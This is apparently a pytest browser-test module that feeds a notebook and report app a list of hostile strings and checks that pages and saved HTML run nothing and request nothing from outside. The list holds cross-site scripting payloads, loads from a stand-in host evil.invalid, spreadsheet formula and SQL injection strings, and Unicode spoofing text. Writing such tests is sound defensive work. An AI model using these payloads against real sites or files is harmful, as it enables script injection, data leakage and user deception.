"""Hostile strings as names of runs, columns, notebooks and links, as Markdown and parameters, in Chromium.

On pages, in the shared report and in its HTML file nothing runs, no request leaves, no name becomes a link.
"""

import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from data.notebooks import Notebooks
from data.store import Store, get_store
from reports.freeze import save
from reports.html import render
from reports.links import LinkBook
from reports.notebook.document import (
    AnalysisCell,
    AnyCell,
    ChartCell,
    Document,
    MetricCell,
    ParameterCell,
    SqlCell,
    TextCell,
)
from reports.notebook.frozen import freeze_from_home
from reports.notebook.run import run_stale
from tests.browser.server import Server, serve
from tests.browser.steps import LOAD_MS, no_failure, settled

pytestmark = pytest.mark.browser
EVIL, PROSE = "evil.invalid", "prose.invalid"
HOSTILE = (
    "<script>window.__pwn=1</script>",
    "<script src=https://evil.invalid/x.js></script>",
    "</script><script>window.__pwn=1</script>",
    "<img src=x onerror=window.__pwn=1>",
    "<img src=https://evil.invalid/a.png>",
    "<svg onload=window.__pwn=1><circle r=9 /></svg>",
    "<iframe srcdoc='<script>parent.__pwn=1</script>'></iframe>",
    "<a href=javascript:window.__pwn=1>click</a>",
    "<a href='https://evil.invalid/b'>Reset your token</a>",
    "[pay](javascript:window.__pwn=1)",
    "[pay](https://evil.invalid/pay)",
    "![seen](https://evil.invalid/seen.png)",
    "<https://evil.invalid/auto>",
    "https://evil.invalid/plain www.evil.invalid mail@evil.invalid",
    "data:text/html,<script>window.__pwn=1</script>",
    "&lt;script&gt;window.__pwn=1&lt;/script&gt; &#60;b&#62;",
    "{{7*7}} {% raw %} {{ config }}",
    "${7*7} `${window.__pwn=1}`",
    "<!-- --><!--><script>window.__pwn=1</script> -->",
    "</style><style>@import 'https://evil.invalid/c.css'</style>",
    "</textarea></title></table><script>window.__pwn=1</script>",
    "x' style='background:url(https://evil.invalid/d.png)' y='",
    '" onmouseover="window.__pwn=1" autofocus onfocus="window.__pwn=1',
    "<b>bold</b><a href='https://evil.invalid/e'>plotly</a><br>",
    ":red[alarm] :material/home: $\\href{https://evil.invalid/f}{x}$",
    "gnp.\u202egpj.exe\u202c \u2066left\u2069",
    "zero\u200bwidth\u200djoin\ufeff",
    "\ufeffbyte order mark first",
    "bell\x07 escape\x1b[31m delete\x7f null-like\\x00 \\u0000",
    "=HYPERLINK(\"https://evil.invalid/g\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; drop table runs; -- \" ''",
    "line\nbreak\r\n# heading\n- list\ttab",
    "emoji \U0001f469\u200d\U0001f4bb \U0001f1e9\U0001f1ea e\u0301\u0301\u0301",
    "js\u2028line\u2029ends",
    "аdmin раypal (Cyrillic)",
    "__proto__ constructor toString",
    "%{customdata} %{x} %s %(x)s {0} \\N{DEGREE SIGN}",
    "<span style=\"position:fixed;inset:0;width:expression(window.__pwn=1)\">cover</span>",
    "long " + "m" * 10_000,
)  # fmt: skip


def short(text: str) -> str:
    return text[:120]


def quoted(text: str) -> str:
    return '"' + text[:200].replace('"', '""') + '"'


def literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def fill(store: Store) -> None:
    """Runs of every name, on GPUs with a price, so that pages draw them."""
    with store.transaction() as cursor:
        for text in HOSTILE:
            cursor.execute(
                "insert into runs (run, campaign, llm, synthetic) values (?, ?, ?, false)", [text, text, text]
            )
            cursor.execute(
                "insert into attempts (run, attempt, started_at, ended_at, elapsed_s, status, cause) "
                "values (?, 1, timestamp '2026-03-01', timestamp '2026-03-01 01:00', 3600, 'failed', ?)",
                [text, text],
            )  # fmt: skip
            cursor.execute(
                "insert into allocations (run, attempt, pool, role, platform, gpus, seconds, source) "
                "values (?, 1, ?, 'colocated', 'h100-sxm', 8, 3600, 'file')", [text, text]
            )  # fmt: skip
            cursor.execute(
                "insert into steps (run, attempt, step, source, step_s, tok_gen, rollouts, upload_id) "
                "select ?, 1, i, 'test', 10 + i, 1e5, 64, 1 from range(1, 4) t(i)", [text]
            )  # fmt: skip


def notebook() -> Document:
    """Every place of a notebook that takes words, filled with every string."""
    columns = ", ".join(f"{n} as {quoted(text)}" for n, text in enumerate(HOSTILE))
    names = " union all ".join(f"select {literal(t)} as what, {n} as n" for n, t in enumerate(HOSTILE))
    cells: list[AnyCell] = [
        TextCell(markdown="\n\n".join(HOSTILE).replace(EVIL, PROSE)),
        SqlCell(name="wide", sql=f"select {columns}"),
        SqlCell(name="names", sql=names),
        ChartCell(
            name="bars", source="names", chart="bar", x="what", y=("n",), colour="what", title=HOSTILE[3]
        ),
        ChartCell(
            name="plot", source="wide", chart="scatter", x=HOSTILE[23], y=(HOSTILE[3],), unit=HOSTILE[4]
        ),
        MetricCell(name="metric", source="wide", column=HOSTILE[3], label=HOSTILE[8], unit=HOSTILE[3]),
        AnalysisCell(name="ledger", question="ledger", tables=True),
        SqlCell(name="wrong", sql=f"select {literal(HOSTILE[0])} from {quoted(HOSTILE[3])}"),
    ]
    cells += [
        ParameterCell(
            name=f"p{n}",
            input="choice",
            label=short(text),
            unit=short(text),
            value=short(text),
            choices=tuple(dict.fromkeys((short(text), short(HOSTILE[0])))),
        )
        for n, text in enumerate(HOSTILE)
    ]
    return Document(title=short(HOSTILE[2]), cells=tuple(cells))


@dataclass(frozen=True)
class Served:
    """The running app, the number of the notebook, the path of the link, and the file."""

    server: Server
    notebook: int
    link: str
    file: Path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("hostile")
    home, file = folder / "home", folder / "report.html"
    store = get_store(home)
    fill(store)
    document = notebook()
    number = Notebooks(store.workspace).create(document.to_json()).id
    outputs = run_stale(store, document, {})
    states = {cell.name: outputs[cell.id].state for cell in document.cells if cell.id in outputs}
    assert states.pop("wrong") == "failed"
    assert set(states.values()) == {"done"}, {k: v for k, v in states.items() if v != "done"}
    report = freeze_from_home(store, document, outputs)
    shutil.copy(save(report, home, render), file)
    links = LinkBook(home)
    path = links.create(report.hash, report.title, label=short(HOSTILE[8])).path
    for text in HOSTILE:
        links.create(report.hash, short(text), label=short(text))
    store.close()
    with serve(home, IPD_EXAMPLE="off", IPD_WARM="off") as running:
        yield Served(running, number, path, file)


def looked_at(browser, url: str, ready: str):
    """Open an address in a clean browser; returns the page and what it asked for."""
    page = browser.new_context(viewport={"width": 1280, "height": 1600}).new_page()
    page.set_default_timeout(LOAD_MS)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog:{dialog.message}"))
    page.goto(url)
    page.wait_for_selector(ready, state="attached")
    return page, asked


def assert_harmless(page, asked: list[str], own: str) -> None:
    page.mouse.wheel(0, 4000)
    page.evaluate("() => new Promise(done => setTimeout(done, 500))")
    assert page.evaluate("window.__pwn") is None
    outside = [
        u for u in asked if urlsplit(u).scheme not in ("data", "blob", "file") and urlsplit(u).netloc != own
    ]
    assert outside == []
    found = page.evaluate(
        """() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]
          .filter(a => ['href', 'xlink:href', 'src', 'srcset', 'action', 'style', 'srcdoc'].includes(a.name))
          .map(a => [e.tagName.toLowerCase(), a.name, a.value]))"""
    )
    bad = [one for one in found if EVIL in one[2] or one[2].strip().lower().startswith("javascript:")]
    assert bad == []
    prose = [one for one in found if PROSE in one[2]]
    assert all(one[:2] == ["a", "href"] for one in prose), prose
    assert (
        page.evaluate("document.querySelectorAll('[onerror], [onload], [onmouseover], [onfocus]').length")
        == 0
    )


@pytest.mark.parametrize("form", ["link", "file"])
def test_a_shared_report_shows_every_name_as_it_is(browser, hostile: Served, form: str) -> None:
    url = hostile.server.url + hostile.link if form == "link" else hostile.file.as_uri()
    page, asked = looked_at(browser, url, ".plot .main-svg")
    assert_harmless(page, asked, urlsplit(hostile.server.url).netloc)
    assert HOSTILE[2] in page.title()
    text = page.evaluate("document.body.textContent")
    missing = [t for t in HOSTILE if " ".join(short(t).split()) not in " ".join(text.split())]
    assert not missing
    page.context.close()


@pytest.mark.parametrize(
    "place",
    ["notebook", pytest.param("", marks=pytest.mark.full), pytest.param("links", marks=pytest.mark.full),
     pytest.param("rollouts", marks=pytest.mark.full), pytest.param("money", marks=pytest.mark.full)],
)  # fmt: skip
def test_a_page_runs_and_fetches_nothing_of_a_name(browser, hostile: Served, place: str) -> None:
    query = f"?nb={hostile.notebook}" if place == "notebook" else ""
    page, asked = looked_at(browser, f"{hostile.server.url}/{place}{query}", "[data-testid=stMarkdown]")
    settled(page)
    if place == "notebook":  # its cells run beside the page
        page.locator("[data-testid=stPlotlyChart] .main-svg").first.wait_for(timeout=LOAD_MS)
        page.get_by_text(HOSTILE[3]).first.wait_for(timeout=LOAD_MS, state="attached")
        settled(page)
    no_failure(page)
    assert_harmless(page, asked, urlsplit(hostile.server.url).netloc)
    page.context.close()


@pytest.mark.parametrize("text", [HOSTILE[3], HOSTILE[4], HOSTILE[7], HOSTILE[8]])
def test_what_would_act_is_noticed(browser, hostile: Served, text: str) -> None:
    page, asked = looked_at(browser, "about:blank", "body")
    page.set_content(text)
    with pytest.raises(AssertionError):
        assert_harmless(page, asked, urlsplit(hostile.server.url).netloc)
    page.context.close()
